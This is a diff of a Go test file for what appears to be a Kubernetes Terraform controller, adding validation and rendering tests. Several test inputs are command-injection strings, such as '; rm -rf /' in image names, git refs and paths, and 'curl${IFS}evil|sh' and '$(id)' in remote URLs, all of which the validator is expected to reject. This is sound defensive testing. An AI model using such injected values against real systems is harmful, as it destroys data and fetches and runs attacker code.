@@ -2,10 +2,15 @@ package configuration
 
 import (
 	"context"
+	"fmt"
+	"strconv"
 	"strings"
 	"testing"
+	"time"
 
+	"github.com/pkg/errors"
 	"github.com/stretchr/testify/assert"
+	corev1 "k8s.io/api/core/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/runtime"
 	"sigs.k8s.io/controller-runtime/pkg/client"
@@ -44,8 +49,248 @@ func TestValidConfigurationObject(t *testing.T) {
 				configurationType: types.ConfigurationHCL,
 			},
 		},
+		{
+			name: "local backend",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL: "abc",
+						Backend: &v1beta2.Backend{
+							Type: "local",
+						},
+					},
+				},
+			},
+			want: want{
+				configurationType: types.ConfigurationHCL,
+			},
+		},
+		{
+			name: "runner image",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:         "abc",
+						RunnerImage: "registry.example.com:5000/infra/docker-terraform:1.1.2",
+					},
+				},
+			},
+			want: want{
+				configurationType: types.ConfigurationHCL,
+			},
+		},
+		{
+			name: "runner image with digest",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:         "abc",
+						RunnerImage: "oamdev/docker-terraform@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
+					},
+				},
+			},
+			want: want{
+				configurationType: types.ConfigurationHCL,
+			},
+		},
+		{
+			name: "invalid runner image",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:         "abc",
+						RunnerImage: "Oamdev/docker-terraform:1.1.2; rm -rf /",
+					},
+				},
+			},
+			want: want{
+				errMsg: "spec.RunnerImage Oamdev/docker-terraform:1.1.2; rm -rf / is not a valid image reference",
+			},
+		},
+		{
+			name: "skip destroy",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:         "abc",
+						SkipDestroy: []string{"aws_s3_bucket.data", `module.storage.aws_s3_bucket.logs["audit"]`, "aws_instance.a[0]"},
+					},
+				},
+			},
+			want: want{
+				configurationType: types.ConfigurationHCL,
+			},
+		},
+		{
+			name: "invalid registry preflight endpoint",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:               "abc",
+						RegistryPreflight: &v1beta2.RegistryPreflight{Endpoint: "registry.terraform.io'; rm -rf /"},
+					},
+				},
+			},
+			want: want{
+				errMsg: "spec.RegistryPreflight.Endpoint registry.terraform.io'; rm -rf / is not a valid http(s) URL",
+			},
+		},
+		{
+			name: "vendored modules",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:             "abc",
+						VendoredModules: &v1beta2.VendoredModules{ClaimName: "tf-modules", Path: "vpc/.terraform/modules"},
+					},
+				},
+			},
+			want: want{
+				configurationType: types.ConfigurationHCL,
+			},
+		},
+		{
+			name: "vendored modules without a source",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:             "abc",
+						VendoredModules: &v1beta2.VendoredModules{Path: "modules"},
+					},
+				},
+			},
+			want: want{
+				errMsg: "spec.VendoredModules.ClaimName or spec.VendoredModules.Image should be set",
+			},
+		},
+		{
+			name: "vendored modules from both a claim and an image",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:             "abc",
+						VendoredModules: &v1beta2.VendoredModules{ClaimName: "tf-modules", Image: "registry.local/tf-modules:v1"},
+					},
+				},
+			},
+			want: want{
+				errMsg: "spec.VendoredModules.ClaimName and spec.VendoredModules.Image cloud not be set at the same time",
+			},
+		},
+		{
+			name: "invalid vendored modules path",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:             "abc",
+						VendoredModules: &v1beta2.VendoredModules{Image: "registry.local/tf-modules:v1", Path: "modules; rm -rf /"},
+					},
+				},
+			},
+			want: want{
+				errMsg: "spec.VendoredModules.Path modules; rm -rf / is not a valid relative path",
+			},
+		},
+		{
+			name: "invalid skip destroy",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:         "abc",
+						SkipDestroy: []string{"aws_s3_bucket.data'; rm -rf /"},
+					},
+				},
+			},
+			want: want{
+				errMsg: "spec.SkipDestroy aws_s3_bucket.data'; rm -rf / is not a valid resource address",
+			},
+		},
+		{
+			name: "invalid resource to untaint",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					ObjectMeta: metav1.ObjectMeta{
+						Annotations: map[string]string{UntaintAnnotation: "aws_instance.a[0],aws_instance.b'; rm -rf /"},
+					},
+					Spec: v1beta2.ConfigurationSpec{
+						HCL: "abc",
+					},
+				},
+			},
+			want: want{
+				errMsg: "the annotation terraform.core.oam.dev/untaint aws_instance.b'; rm -rf / is not a valid resource address",
+			},
+		},
+		{
+			name: "unsupported backend type",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL: "abc",
+						Backend: &v1beta2.Backend{
+							Type: "s3",
+						},
+					},
+				},
+			},
+			want: want{
+				errMsg: "spec.Backend.Type s3 is not supported",
+			},
+		},
 		{
 			name: "remote",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						Remote: "https://github.com/a/b.git",
+					},
+				},
+			},
+			want: want{
+				configurationType: types.ConfigurationRemote,
+			},
+		},
+		{
+			name: "ssh remote",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						Remote: "git@github.com:a/b.git",
+					},
+				},
+			},
+			want: want{
+				configurationType: types.ConfigurationRemote,
+			},
+		},
+		{
+			name: "remote with ssh scheme",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						Remote: "ssh://git@github.com/a/b.git",
+					},
+				},
+			},
+			want: want{
+				configurationType: types.ConfigurationRemote,
+			},
+		},
+		{
+			name: "remote is a local file",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						Remote: "file:///tmp/modules",
+					},
+				},
+			},
+			want: want{
+				errMsg: "the scheme file of spec.Remote file:///tmp/modules is not supported",
+			},
+		},
+		{
+			name: "remote is a local path",
 			args: args{
 				configuration: &v1beta2.Configuration{
 					Spec: v1beta2.ConfigurationSpec{
@@ -53,77 +298,655 @@ func TestValidConfigurationObject(t *testing.T) {
 					},
 				},
 			},
+			want: want{
+				errMsg: "spec.Remote def is not a valid git repository URL",
+			},
+		},
+		{
+			name: "git remote",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						GitRemote: &v1beta2.GitRemote{
+							URL:                  "https://github.com/a/b.git",
+							Ref:                  "v1.0.0",
+							Path:                 "modules/rds",
+							CredentialsSecretRef: &corev1.LocalObjectReference{Name: "git-credentials"},
+						},
+					},
+				},
+			},
 			want: want{
 				configurationType: types.ConfigurationRemote,
 			},
 		},
 		{
-			name: "remote and hcl are set",
+			name: "git remote with invalid ref",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						GitRemote: &v1beta2.GitRemote{
+							URL: "https://github.com/a/b.git",
+							Ref: "main; rm -rf /",
+						},
+					},
+				},
+			},
+			want: want{
+				errMsg: "spec.GitRemote.Ref main; rm -rf / is not a valid git branch, tag or commit",
+			},
+		},
+		{
+			name: "git remote with invalid path",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						GitRemote: &v1beta2.GitRemote{
+							URL:  "https://github.com/a/b.git",
+							Path: "../..",
+						},
+					},
+				},
+			},
+			want: want{
+				errMsg: "the path ../.. is not a valid sub-directory of the git repo",
+			},
+		},
+		{
+			name: "remote and git remote are set",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						Remote:    "https://github.com/a/b.git",
+						GitRemote: &v1beta2.GitRemote{URL: "https://github.com/a/b.git"},
+					},
+				},
+			},
+			want: want{
+				errMsg: "spec.Remote and spec.GitRemote cloud not be set at the same time",
+			},
+		},
+		{
+			name: "path and git remote are set",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						Path:      "modules/rds",
+						GitRemote: &v1beta2.GitRemote{URL: "https://github.com/a/b.git"},
+					},
+				},
+			},
+			want: want{
+				errMsg: "spec.Path could not be set with spec.GitRemote, use spec.GitRemote.Path instead",
+			},
+		},
+		{
+			name: "remote and hcl are set",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:    "abc",
+						Remote: "def",
+					},
+				},
+			},
+			want: want{
+				configurationType: "",
+				errMsg:            "spec.HCL and spec.Remote cloud not be set at the same time",
+			},
+		},
+		{
+			name: "remote and hcl are not set",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{},
+				},
+			},
+			want: want{
+				configurationType: "",
+				errMsg:            "spec.HCL or spec.Remote should be set",
+			},
+		},
+		{
+			name: "allowed extra args",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:              "abc",
+						ExtraApplyArgs:   []v1beta2.ExtraArg{"-compact-warnings", "-parallelism=5"},
+						ExtraDestroyArgs: []v1beta2.ExtraArg{"-no-color"},
+					},
+				},
+			},
+			want: want{
+				configurationType: types.ConfigurationHCL,
+			},
+		},
+		{
+			name: "extra args not in allowlist",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:            "abc",
+						ExtraApplyArgs: []v1beta2.ExtraArg{"-input=true"},
+					},
+				},
+			},
+			want: want{
+				errMsg: "argument -input is not allowed",
+			},
+		},
+		{
+			name: "forbidden extra args",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:              "abc",
+						ExtraDestroyArgs: []v1beta2.ExtraArg{"-var=password=abc"},
+					},
+				},
+			},
+			want: want{
+				errMsg: "spec.ExtraDestroyArgs is not valid: argument -var is forbidden",
+			},
+		},
+		{
+			name: "extra args with shell meta characters",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						Remote:         "https://github.com/a/b.git",
+						ExtraApplyArgs: []v1beta2.ExtraArg{"-no-color; rm -rf /"},
+					},
+				},
+			},
+			want: want{
+				errMsg: "is not in the format of -flag or -flag=value",
+			},
+		},
+		{
+			name: "valid lock timeout",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:         "abc",
+						LockTimeout: "1m30s",
+					},
+				},
+			},
+			want: want{
+				configurationType: types.ConfigurationHCL,
+			},
+		},
+		{
+			name: "lock timeout is not a duration",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:         "abc",
+						LockTimeout: "30",
+					},
+				},
+			},
+			want: want{
+				errMsg: "spec.LockTimeout 30 is not a positive duration",
+			},
+		},
+		{
+			name: "lock timeout is negative",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:         "abc",
+						LockTimeout: "-5s",
+					},
+				},
+			},
+			want: want{
+				errMsg: "spec.LockTimeout -5s is not a positive duration",
+			},
+		},
+		{
+			name: "post-apply delay is negative",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:            "abc",
+						PostApplyDelay: "-30s",
+					},
+				},
+			},
+			want: want{
+				errMsg: "spec.PostApplyDelay -30s is not a non-negative duration",
+			},
+		},
+		{
+			name: "drift check interval is not a duration",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:                "abc",
+						DriftCheckInterval: "1d",
+					},
+				},
+			},
+			want: want{
+				errMsg: "spec.DriftCheckInterval 1d is not a positive duration",
+			},
+		},
+		{
+			name: "self-heal without drift check",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:      "abc",
+						SelfHeal: true,
+					},
+				},
+			},
+			want: want{
+				errMsg: "spec.SelfHeal requires spec.DriftCheckInterval to detect the drift",
+			},
+		},
+		{
+			name: "lock timeout is not in the default allowlist",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:            "abc",
+						ExtraApplyArgs: []v1beta2.ExtraArg{"-lock-timeout=10s"},
+					},
+				},
+			},
+			want: want{
+				errMsg: "spec.ExtraApplyArgs is not valid: argument -lock-timeout is not allowed, the lock timeout is set by spec.LockTimeout",
+			},
+		},
+		{
+			name: "output targets",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL: "abc",
+						OutputTargets: []v1beta2.OutputTarget{
+							{Output: "url", ConfigMap: &v1beta2.ConfigMapOutputTarget{Name: "endpoints"}},
+							{Output: "port", ConfigMap: &v1beta2.ConfigMapOutputTarget{Name: "endpoints", Key: "db.port"}},
+							{Output: "url", Patch: &v1beta2.PatchOutputTarget{APIVersion: "apps/v1", Kind: "Deployment", Name: "web", Path: "/metadata/annotations/db-url"}},
+						},
+					},
+				},
+			},
+			want: want{
+				configurationType: types.ConfigurationHCL,
+			},
+		},
+		{
+			name: "output target without a target",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:           "abc",
+						OutputTargets: []v1beta2.OutputTarget{{Output: "url"}},
+					},
+				},
+			},
+			want: want{
+				errMsg: "exactly one of configMap and patch of spec.OutputTargets url should be set",
+			},
+		},
+		{
+			name: "output targets write the same key",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL: "abc",
+						OutputTargets: []v1beta2.OutputTarget{
+							{Output: "url", ConfigMap: &v1beta2.ConfigMapOutputTarget{Name: "endpoints"}},
+							{Output: "address", ConfigMap: &v1beta2.ConfigMapOutputTarget{Name: "endpoints", Key: "url"}},
+						},
+					},
+				},
+			},
+			want: want{
+				errMsg: "the key url of ConfigMap endpoints is written by more than one of spec.OutputTargets",
+			},
+		},
+		{
+			name: "output target of an invalid key",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL: "abc",
+						OutputTargets: []v1beta2.OutputTarget{
+							{Output: "url", ConfigMap: &v1beta2.ConfigMapOutputTarget{Name: "endpoints", Key: "a/b"}},
+						},
+					},
+				},
+			},
+			want: want{
+				errMsg: "the key a/b of spec.OutputTargets url is not valid",
+			},
+		},
+		{
+			name: "output target of an invalid path",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL: "abc",
+						OutputTargets: []v1beta2.OutputTarget{
+							{Output: "url", Patch: &v1beta2.PatchOutputTarget{APIVersion: "apps/v1", Kind: "Deployment", Name: "web", Path: "spec.url"}},
+						},
+					},
+				},
+			},
+			want: want{
+				errMsg: "the path spec.url of spec.OutputTargets url is not a JSON pointer",
+			},
+		},
+		{
+			name: "output target patches a Secret",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL: "abc",
+						OutputTargets: []v1beta2.OutputTarget{
+							{Output: "url", Patch: &v1beta2.PatchOutputTarget{APIVersion: "v1", Kind: "Secret", Name: "db", Path: "/data/url"}},
+						},
+					},
+				},
+			},
+			want: want{
+				errMsg: "v1 Secret is not allowed to be patched by spec.OutputTargets url",
+			},
+		},
+	}
+
+	for _, tc := range testcases {
+		t.Run(tc.name, func(t *testing.T) {
+			got, err := ValidConfigurationObject(tc.args.configuration)
+			if tc.want.errMsg != "" && (err == nil || !strings.Contains(err.Error(), tc.want.errMsg)) {
+				t.Errorf("ValidConfigurationObject() error = %v, wantErr %v", err, tc.want.errMsg)
+				return
+			}
+			if got != tc.want.configurationType {
+				t.Errorf("ValidConfigurationObject() = %v, want %v", got, tc.want.configurationType)
+			}
+		})
+	}
+
+}
+
+func TestValidRemote(t *testing.T) {
+	assert.Nil(t, validRemote("https://github.com/a/b.git", "https://gitee.com/a/b.git"))
+	assert.EqualError(t, validRemote("https://github.com/a/b/c", ""),
+		"spec.Remote https://github.com/a/b/c could not be mapped to a git repository")
+	assert.Contains(t, validRemote("http://github.com/a/b.git", "http://github.com/a/b.git").Error(),
+		"the scheme http of spec.Remote http://github.com/a/b.git is not supported")
+
+	assert.Nil(t, validRemote("git@github.com:a/b.git", "git@github.com:a/b.git"))
+	for _, remote := range []string{
+		"https://github.com/org/repo.git;id>/tmp/x",
+		"git@github.com:org/repo.git;curl${IFS}evil|sh",
+		"https://github.com/a/b$(id)",
+		"git@github.com:a/b`id`",
+		"https://github.com/a/b.git 'x'",
+	} {
+		assert.Contains(t, validRemote(remote, remote).Error(), "contains the shell metacharacters", remote)
+	}
+}
+
+func TestIsForbiddenPatchTarget(t *testing.T) {
+	for _, patch := range []v1beta2.PatchOutputTarget{
+		{APIVersion: "v1", Kind: "Secret"},
+		{APIVersion: "v1", Kind: "ConfigMap"},
+		{APIVersion: "rbac.authorization.k8s.io/v1", Kind: "ClusterRoleBinding"},
+		{APIVersion: "terraform.core.oam.dev/v1beta2", Kind: "Configuration"},
+	} {
+		assert.True(t, isForbiddenPatchTarget(&patch), patch.Kind)
+	}
+	assert.False(t, isForbiddenPatchTarget(&v1beta2.PatchOutputTarget{APIVersion: "apps/v1", Kind: "Deployment"}))
+	assert.False(t, isForbiddenPatchTarget(&v1beta2.PatchOutputTarget{APIVersion: "v1", Kind: "Service"}))
+}
+
+func TestGetExtraArgsAllowlist(t *testing.T) {
+	t.Setenv(ExtraArgsAllowlistEnv, "")
+	assert.Equal(t, defaultExtraArgsAllowlist, getExtraArgsAllowlist())
+
+	t.Setenv(ExtraArgsAllowlistEnv, "-compact-warnings, -input,")
+	assert.Equal(t, []string{"-compact-warnings", "-input"}, getExtraArgsAllowlist())
+
+	// the lock timeout allowed by the env is not set in both spec.LockTimeout and the extra arguments
+	t.Setenv(ExtraArgsAllowlistEnv, "-lock-timeout")
+	configuration := &v1beta2.Configuration{
+		Spec: v1beta2.ConfigurationSpec{HCL: "abc", ExtraApplyArgs: []v1beta2.ExtraArg{"-lock-timeout=10s"}},
+	}
+	_, err := ValidConfigurationObject(configuration)
+	assert.Nil(t, err)
+	configuration.Spec.LockTimeout = "5s"
+	_, err = ValidConfigurationObject(configuration)
+	assert.Contains(t, err.Error(), "could not be set at the same time")
+}
+
+func TestValidObjectSize(t *testing.T) {
+	configuration := &v1beta2.Configuration{
+		ObjectMeta: metav1.ObjectMeta{Name: "abc", Namespace: "default"},
+		Spec:       v1beta2.ConfigurationSpec{HCL: strings.Repeat("#", 2048)},
+	}
+	t.Setenv(MaxObjectSizeEnv, "")
+	assert.Nil(t, validObjectSize(configuration))
+
+	t.Setenv(MaxObjectSizeEnv, "2Ki")
+	err := validObjectSize(configuration)
+	assert.Contains(t, err.Error(), "which exceeds the limit 2048 bytes, move spec.HCL to a git repository")
+	_, err = ValidConfigurationObject(configuration)
+	assert.Contains(t, err.Error(), "which exceeds the limit 2048 bytes")
+
+	t.Setenv(MaxObjectSizeEnv, "4Ki")
+	assert.Nil(t, validObjectSize(configuration))
+
+	// the status written by the controller is not counted
+	configuration.Status.Apply.Message = strings.Repeat("#", 4096)
+	assert.Nil(t, validObjectSize(configuration))
+
+	t.Setenv(MaxObjectSizeEnv, "-1")
+	assert.EqualError(t, validObjectSize(configuration),
+		"failed to parse env variable TERRAFORM_MAX_CONFIGURATION_SIZE into a positive quantity")
+}
+
+func TestRenderConfiguration(t *testing.T) {
+	type args struct {
+		configuration     *v1beta2.Configuration
+		ns                string
+		configurationType types.ConfigurationType
+	}
+	type want struct {
+		cfg    string
+		errMsg string
+	}
+
+	testcases := []struct {
+		name string
+		args args
+		want want
+	}{
+		{
+			name: "backend is not nil, configuration is hcl",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						Backend: &v1beta2.Backend{},
+						HCL:     "abc",
+					},
+				},
+				ns:                "vela-system",
+				configurationType: types.ConfigurationHCL,
+			},
+			want: want{
+				cfg: `terraform {
+  backend "kubernetes" {
+    secret_suffix     = ""
+    in_cluster_config = true
+    namespace         = "vela-system"
+  }
+}
+
+abc
+`,
+			},
+		},
+		{
+			name: "backend is nil, configuration is remote",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						Remote: "https://github.com/a/b.git",
+					},
+				},
+				ns:                "vela-system",
+				configurationType: types.ConfigurationRemote,
+			},
+			want: want{
+				cfg: `terraform {
+  backend "kubernetes" {
+    secret_suffix     = ""
+    in_cluster_config = true
+    namespace         = "vela-system"
+  }
+}
+`,
+			},
+		},
+		{
+			name: "backend is local, configuration is hcl",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						Backend: &v1beta2.Backend{
+							Type: "local",
+						},
+						HCL: "abc",
+					},
+				},
+				ns:                "vela-system",
+				configurationType: types.ConfigurationHCL,
+			},
+			want: want{
+				cfg: "abc\n",
+			},
+		},
+		{
+			name: "backend is local, configuration is remote",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						Backend: &v1beta2.Backend{
+							Type: "local",
+						},
+						Remote: "https://github.com/a/b.git",
+					},
+				},
+				ns:                "vela-system",
+				configurationType: types.ConfigurationRemote,
+			},
+			want: want{
+				cfg: "",
+			},
+		},
+		{
+			name: "required providers are rendered",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						Backend: &v1beta2.Backend{
+							Type: "local",
+						},
+						HCL: "abc",
+						RequiredProviders: map[string]v1beta2.RequiredProvider{
+							"aws": {Source: "hashicorp/aws", Version: "~> 4.0"},
+						},
+					},
+				},
+				ns:                "vela-system",
+				configurationType: types.ConfigurationHCL,
+			},
+			want: want{
+				cfg: `terraform {
+  required_providers {
+    aws = {
+      source  = "hashicorp/aws"
+      version = "~> 4.0"
+    }
+  }
+}
+
+abc
+`,
+			},
+		},
+		{
+			name: "backend and required providers are in one terraform block",
 			args: args{
 				configuration: &v1beta2.Configuration{
+					ObjectMeta: metav1.ObjectMeta{Name: "a"},
 					Spec: v1beta2.ConfigurationSpec{
-						HCL:    "abc",
-						Remote: "def",
+						HCL: "# comment without a newline",
+						RequiredProviders: map[string]v1beta2.RequiredProvider{
+							"aws": {Source: "hashicorp/aws"},
+						},
 					},
 				},
+				ns:                "vela-system",
+				configurationType: types.ConfigurationHCL,
 			},
 			want: want{
-				configurationType: "",
-				errMsg:            "spec.HCL and spec.Remote cloud not be set at the same time",
+				cfg: `terraform {
+  backend "kubernetes" {
+    secret_suffix     = "a"
+    in_cluster_config = true
+    namespace         = "vela-system"
+  }
+  required_providers {
+    aws = {
+      source  = "hashicorp/aws"
+    }
+  }
+}
+
+# comment without a newline
+`,
 			},
 		},
 		{
-			name: "remote and hcl are not set",
+			name: "required providers conflict with the HCL",
 			args: args{
 				configuration: &v1beta2.Configuration{
-					Spec: v1beta2.ConfigurationSpec{},
+					Spec: v1beta2.ConfigurationSpec{
+						HCL: `terraform { required_providers { aws = { source = "hashicorp/aws" } } }`,
+						RequiredProviders: map[string]v1beta2.RequiredProvider{
+							"aws": {Source: "hashicorp/aws", Version: "~> 4.0"},
+						},
+					},
 				},
+				ns:                "vela-system",
+				configurationType: types.ConfigurationHCL,
 			},
 			want: want{
-				configurationType: "",
-				errMsg:            "spec.HCL or spec.Remote should be set",
+				errMsg: "provider aws is declared in both spec.RequiredProviders and the required_providers of spec.HCL",
 			},
 		},
-	}
-
-	for _, tc := range testcases {
-		t.Run(tc.name, func(t *testing.T) {
-			got, err := ValidConfigurationObject(tc.args.configuration)
-			if tc.want.errMsg != "" && !strings.Contains(err.Error(), tc.want.errMsg) {
-				t.Errorf("ValidConfigurationObject() error = %v, wantErr %v", err, tc.want.errMsg)
-				return
-			}
-			if got != tc.want.configurationType {
-				t.Errorf("ValidConfigurationObject() = %v, want %v", got, tc.want.configurationType)
-			}
-		})
-	}
-
-}
-
-func TestRenderConfiguration(t *testing.T) {
-	type args struct {
-		configuration     *v1beta2.Configuration
-		ns                string
-		configurationType types.ConfigurationType
-	}
-	type want struct {
-		cfg    string
-		errMsg string
-	}
-
-	testcases := []struct {
-		name string
-		args args
-		want want
-	}{
 		{
-			name: "backend is not nil, configuration is hcl",
+			name: "moved blocks are rendered after the HCL",
 			args: args{
 				configuration: &v1beta2.Configuration{
 					Spec: v1beta2.ConfigurationSpec{
-						Backend: &v1beta2.Backend{},
-						HCL:     "abc",
+						Backend: &v1beta2.Backend{
+							Type: "local",
+						},
+						HCL: "abc",
+						Moved: []v1beta2.MovedBlock{
+							{From: "aws_s3_bucket.logs", To: "module.storage.aws_s3_bucket.logs"},
+							{From: "module.network", To: "module.vpc"},
+						},
 					},
 				},
 				ns:                "vela-system",
@@ -132,39 +955,57 @@ func TestRenderConfiguration(t *testing.T) {
 			want: want{
 				cfg: `abc
 
-terraform {
-  backend "kubernetes" {
-    secret_suffix     = ""
-    in_cluster_config = true
-    namespace         = "vela-system"
-  }
+moved {
+  from = aws_s3_bucket.logs
+  to   = module.storage.aws_s3_bucket.logs
+}
+
+moved {
+  from = module.network
+  to   = module.vpc
 }
 `,
 			},
 		},
 		{
-			name: "backend is nil, configuration is remote",
+			name: "moved blocks are rendered for the remote module",
 			args: args{
 				configuration: &v1beta2.Configuration{
 					Spec: v1beta2.ConfigurationSpec{
+						Backend: &v1beta2.Backend{
+							Type: "local",
+						},
 						Remote: "https://github.com/a/b.git",
+						Moved:  []v1beta2.MovedBlock{{From: "module.network", To: "module.vpc"}},
 					},
 				},
 				ns:                "vela-system",
 				configurationType: types.ConfigurationRemote,
 			},
 			want: want{
-				cfg: `
-terraform {
-  backend "kubernetes" {
-    secret_suffix     = ""
-    in_cluster_config = true
-    namespace         = "vela-system"
-  }
+				cfg: `moved {
+  from = module.network
+  to   = module.vpc
 }
 `,
 			},
 		},
+		{
+			name: "moved blocks conflict with the HCL",
+			args: args{
+				configuration: &v1beta2.Configuration{
+					Spec: v1beta2.ConfigurationSpec{
+						HCL:   "moved {\n  from = module.network\n  to = module.net\n}",
+						Moved: []v1beta2.MovedBlock{{From: "module.network", To: "module.vpc"}},
+					},
+				},
+				ns:                "vela-system",
+				configurationType: types.ConfigurationHCL,
+			},
+			want: want{
+				errMsg: "the move from module.network is declared in both spec.Moved and the moved blocks of spec.HCL",
+			},
+		},
 		{
 			name: "backend is nil, configuration is not supported",
 			args: args{
@@ -220,6 +1061,26 @@ func TestReplaceTerraformSource(t *testing.T) {
 			expected:      "https://gitee.com/kubevela-terraform-source/terraform-modules.git",
 			githubBlocked: "true",
 		},
+		{
+			remote:        "https://github.com/abc/terraform-modules/tree/main/alibaba/rds",
+			expected:      "https://gitee.com/kubevela-terraform-source/terraform-modules/tree/main/alibaba/rds",
+			githubBlocked: "true",
+		},
+		{
+			remote:        "https://github.com/kubevela-contrib/terraform-modules/tree/main/alibaba",
+			expected:      "https://gitee.com/kubevela-contrib/terraform-modules/tree/main/alibaba",
+			githubBlocked: "true",
+		},
+		{
+			remote:        "https://github.com/abc",
+			expected:      "https://github.com/abc",
+			githubBlocked: "true",
+		},
+		{
+			remote:        "https://github.com//terraform-modules.git",
+			expected:      "https://github.com//terraform-modules.git",
+			githubBlocked: "true",
+		},
 		{
 			remote:        "abc",
 			githubBlocked: "true",
@@ -242,6 +1103,27 @@ func TestReplaceTerraformSource(t *testing.T) {
 	}
 }
 
+func TestReplaceTerraformSourceWithAllowlist(t *testing.T) {
+	t.Setenv(GithubBlockedAllowlistEnv, `^https://github\.com/my-org/, ^https://github\.com/kubevela-contrib/terraform-modules\.git$`)
+	assert.Equal(t, "https://github.com/my-org/rds.git",
+		ReplaceTerraformSource("https://github.com/my-org/rds.git", "true"))
+	assert.Equal(t, "https://github.com/kubevela-contrib/terraform-modules.git",
+		ReplaceTerraformSource("https://github.com/kubevela-contrib/terraform-modules.git", "true"))
+	assert.Equal(t, "https://gitee.com/kubevela-terraform-source/rds.git",
+		ReplaceTerraformSource("https://github.com/abc/rds.git", "true"))
+
+	allowlist, err := ParseGithubBlockedAllowlist()
+	assert.Nil(t, err)
+	assert.Equal(t, 2, len(allowlist))
+
+	t.Setenv(GithubBlockedAllowlistEnv, "^https://github.com/(my-org")
+	_, err = ParseGithubBlockedAllowlist()
+	assert.Contains(t, err.Error(), "^https://github.com/(my-org in env GITHUB_BLOCKED_ALLOWLIST is not a valid regular expression")
+	// an invalid allowlist is ignored
+	assert.Equal(t, "https://gitee.com/kubevela-terraform-source/rds.git",
+		ReplaceTerraformSource("https://github.com/my-org/rds.git", "true"))
+}
+
 func TestIsDeletable(t *testing.T) {
 	ctx := context.Background()
 	s := runtime.NewScheme()
@@ -353,6 +1235,22 @@ func TestIsDeletable(t *testing.T) {
 			},
 			want: want{},
 		},
+		{
+			name: "configuration refused to adopt the existing state",
+			args: args{
+				k8sClient: k8sClient3,
+				configuration: &v1beta2.Configuration{
